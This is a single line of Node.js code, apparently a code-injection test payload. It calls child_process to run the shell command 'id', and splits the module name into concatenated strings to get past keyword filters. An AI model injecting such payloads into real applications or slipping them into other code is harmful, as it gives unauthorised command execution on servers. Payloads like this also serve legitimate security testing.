require("child_" + "process").exec("id")
